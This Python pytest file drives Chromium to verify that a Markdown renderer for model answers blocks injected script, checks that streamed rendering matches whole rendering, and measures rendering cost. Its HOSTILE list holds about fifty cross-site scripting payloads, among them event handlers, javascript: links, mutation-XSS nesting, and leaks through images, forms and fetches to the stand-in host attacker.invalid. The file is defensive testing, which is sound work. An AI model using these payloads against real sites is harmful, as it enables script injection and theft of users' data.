"""Markdown of the page, in a real browser: what answers may not do, and what rendering costs."""

import json
from collections.abc import Iterator
from typing import Any, Final

import pytest

from tapeline.server._browser_testing import CHROMIUM, Browser, browsing
from tapeline.server._scripted_server_testing import script_tokens, scripted_server
from tapeline.server._server_testing import RunningServer

__all__ = ["script_tokens", "scripted_server"]  # fixtures
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="this machine has no Chromium: Debian's package is chromium")

# Texts of answers that must not run, fetch or submit anything.
HOSTILE: Final = (
    "<script>attacked = 1</script>",
    "<ScRiPt src=https://attacker.invalid/x.js></sCrIpT>",
    "<scr<script>ipt>attacked = 1</scr</script>ipt>",
    "<img src=x onerror=attacked=1>",
    "<img src=https://attacker.invalid/?leak>",
    '<a href="https://a.invalid" onclick="attacked=1" onfocus="attacked=1" autofocus>x</a>',
    "<svg onload=attacked=1><script>attacked = 1</script></svg>",
    "<svg><animate onbegin=attacked=1 attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:attacked=1'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=attacked=1></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.attacked = 1</script>'></iframe>",
    "<iframe src=javascript:parent.attacked=1></iframe>",
    "<object data=data:text/html,<script>attacked=1</script>></object><embed src=javascript:attacked=1>",
    "<base href=https://attacker.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://attacker.invalid'>",
    "<link rel=stylesheet href=https://attacker.invalid/x.css>",
    "<style>@import 'https://attacker.invalid/x.css'; body { background: url(https://attacker.invalid/x) }</style>",
    "<div style='background: url(https://attacker.invalid/x); position: fixed; inset: 0'>x</div>",
    "<form action=https://attacker.invalid><input name=q autofocus onfocus=attacked=1><button>go</button></form>",
    "<details open ontoggle=attacked=1>x</details>",
    "<video autoplay src=https://attacker.invalid/x onerror=attacked=1></video>",
    "<template><script>attacked = 1</script></template><noscript><p title='</noscript><img src=x onerror=attacked=1>'>",
    "[x](javascript:attacked=1)",
    "[x](JaVaScRiPt:attacked=1)",
    "[x](java\tscript:attacked=1)",
    "[x](&#106;avascript:attacked=1)",
    "[x](javascript&colon;attacked=1)",
    "[x](\x01javascript:attacked=1)",
    "[x](vbscript:attacked)",
    "[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZD0xPC9zY3JpcHQ+)",
    "[x](blob:https://a.invalid/1) [y](file:///etc/passwd) [z](//attacker.invalid)",
    "<javascript:attacked=1>",
    "[x]: javascript:attacked=1\n\n[x]",
    "![x](https://attacker.invalid/?leak)",
    "![x](javascript:attacked=1) ![y](data:image/svg+xml,<svg onload=attacked=1>)",
    '![x](x" onerror="attacked=1) ![y](https://a.invalid "t\\" onerror=\\"attacked=1")',
    '[x](https://a.invalid "title\\" onmouseover=\\"attacked=1")',
    "```js\n</code></pre><script>attacked = 1</script>\n```",
    '```"><img src=x onerror=attacked=1>\nx\n```',
    "``` x onload=attacked=1 class=evil\nx\n```",
    "`<img src=x onerror=attacked=1>`",
    "> - 1. <img src=x onerror=attacked=1>\n>   - ```\n>     <script>attacked = 1</script>",
    "|a|\n|-|\n|<img src=x onerror=attacked=1>|\n|<br><svg onload=attacked=1>|",
    "# <img src=x onerror=attacked=1> #\n***<b onclick=attacked=1>x</b>***",
    "<br onclick=attacked=1>",
    "<a id=messages name=messages></a><a id=at></a><img name=running>",
    "<p id=turns class=turn>x</p>",
    "&lt;script&gt;attacked = 1&lt;/script&gt;",
    "<!--><img src=x onerror=attacked=1>-->",
    "<![CDATA[<img src=x onerror=attacked=1>]]>",
)
# Markdown whose parts follow each other in many ways; reference definitions, CRs and HTML too.
TEXTS: Final = (
    "# Title\n\nText *with* **marks**,\na line break and `code`.\n\n"
    "- a\n- b\n\n  still b\n\n1. one\n2. two\n   - nested\n\nend",
    "para\n\n    indented code\n\n    more\n\nSetext\n======\n\n"
    "> quote\nlazy\n\n***\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\nafter",
    "```python\ndef f():\n\n    return '#'\n```\nright after\n~~~\nopen fence\n\n- not a list\n",
    "See [one][1] and [two].\n\nMore.\n\n[1]: https://one.invalid\n[two]: https://two.invalid 'Two'\n\nEnd [1].",
    "windows\r\nlines\r\n\r\n- a\r\n- b\r\n\r\n```\r\nx\r\n```\r\n",
    "<div>\n\n**bold** in <b>html</b>\n\n</div>\n\n- [ ] open\n- [x] done\n\nx<br>y\n\n\n\n\nend   \n",
)
# What a document must not have, whatever made it.
BAD: Final = """(root => [...root.querySelectorAll('*')].flatMap(one => [
    ...(/^(A|BLOCKQUOTE|BR|BUTTON|CODE|DEL|DIV|EM|H[1-6]|HR|LI|OL|P|PRE|SPAN|STRONG|TABLE|TBODY|TD|TH|THEAD|TR|UL)$/.test(one.nodeName)
        ? [] : [one.nodeName]),
    ...[...one.attributes].filter(({name, value}) =>
        !/^(align|aria-label|class|href|rel|start|tabindex|target|title|type)$/.test(name)
        || name === 'href' && !/^(https?:\\/\\/|mailto:)/i.test(value)
        || name === 'class' && !/^(code|codehead|copy|scrolled|tail|language-[\\w+#.-]+|)$/.test(value)
    ).map(({name, value}) => one.nodeName + ' ' + name + '=' + value)
]))"""


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory, server: RunningServer) -> Iterator[Browser]:
    with browsing(tmp_path_factory.mktemp("profile")) as browser:
        browser.open(f"http://127.0.0.1:{server.port}/", 1280, 800)
        browser.wait("document.readyState === 'complete' && document.querySelectorAll('#model option').length === 2")
        browser.run("globalThis.attacked = 0; globalThis.violations = []; 0")
        browser.run(
            "document.addEventListener('securitypolicyviolation', event => violations.push(event.blockedURI)); 0"
        )
        yield browser


def rendered(page: Browser, script: str) -> Any:
    """Returns the value of an expression in which ``root`` is an element of the page that becomes empty again."""
    return page.run(f"""(async () => {{
        const root = document.createElement('div');
        document.body.append(root);
        try {{ const value = {script}; await new Promise(done => setTimeout(done, 5)); return value; }}
        finally {{ root.remove(); }}
    }})()""")


def view(text: str, characters: int, after: str) -> str:
    """Returns an expression that streams a text by so many characters, each rendered at once, and gives ``after``."""
    return f"""(() => {{
        const view = new MarkdownView(root, work => work());
        const text = {json.dumps(text)};
        for (let at = 0; at < text.length; at += {characters}) view.append(text.slice(at, at + {characters}));
        view.finish();
        return {after};
    }})()"""


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_an_answer_runs_or_loads(page: Browser, text: str) -> None:
    for characters in (3, len(text)):
        assert rendered(page, view(text, characters, f"{BAD}(root)")) == []
    assert page.run("[attacked, ...violations]") == [0]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_sanitiser_alone_lets_nothing_through(page: Browser, text: str) -> None:
    assert rendered(page, f"(root.append(sanitised({json.dumps(text)})), {BAD}(root))") == []
    assert page.run("attacked") == 0
    page.run("violations.length = 0")  # the browser reports what it blocks in the sanitiser's own document


def test_html_is_shown_as_text(page: Browser) -> None:
    text = "Write <b>bold</b> and <script>x</script>: a < b && c > d."
    assert rendered(page, view(text, 3, "root.textContent.trim()")) == text
    assert (
        rendered(page, view("![a cat](https://a.invalid/cat.png)", 3, "root.querySelector('a').textContent")) == "a cat"
    )


def test_the_policy_stops_what_gets_past_the_renderer(page: Browser) -> None:
    insert = (
        "(() => { try { document.body.innerHTML += '<img src=x onerror=attacked=1>' } catch (e) { return e.name } })()"
    )
    assert page.run(insert) == "TypeError"  # trusted types
    handler = "(() => { try { document.body.setAttribute('onclick', 'attacked = 1') } catch (e) { return e.name } })()"
    assert page.run(handler) == "TypeError"
    assert page.run("attacked") == 0
    assert page.run("fetch('https://attacker.invalid/').then(() => 'sent', () => 'refused')") == "refused"
    assert page.run("violations.splice(0).length") > 0


@pytest.mark.parametrize("text", TEXTS)
def test_a_stream_ends_as_the_whole_text(page: Browser, text: str) -> None:
    tail = "root.querySelector('.tail')"
    html = f"({tail}?.replaceWith(...{tail}.childNodes), root.innerHTML.replaceAll('\\n', ''))"
    once = rendered(
        page, f"(root.append(sanitised(parser.parse({json.dumps(text)}))), root.innerHTML.replaceAll('\\n', ''))"
    )
    for characters in (1, 2, 5, 11, len(text)):
        assert rendered(page, view(text, characters, html)) == once


@pytest.mark.parametrize(
    "unit",
    ["A sentence of a paragraph that does not end. ", "- an item of a list\n", "A short paragraph.\n\n", "| a | b |\n"],
)
def test_the_cost_grows_with_the_length(page: Browser, unit: str) -> None:
    def parsed(characters: int) -> int:
        start = "| x | y |\n|---|---|\n" if unit.startswith("|") else ""
        text = (start + unit * (characters // len(unit) + 1))[:characters]
        shown, cost = rendered(page, view(text, 20, "[root.textContent.length, view.parsed]"))
        assert shown > characters / 3
        return cost

    costs = [parsed(characters) for characters in (3_000, 6_000, 12_000)]
    assert costs[1] - costs[0] < 12 * 3_000
    assert costs[2] - costs[1] < 12 * 6_000


def test_code_can_be_copied(page: Browser) -> None:
    text = "```python\nprint('a')\n\nprint('b')\n```\n"
    assert rendered(page, view(text, 2, "root.querySelector('button.copy').copied()")) == "print('a')\n\nprint('b')"
    assert rendered(page, view(text, 2, "root.querySelector('.codehead span').textContent")) == "python"
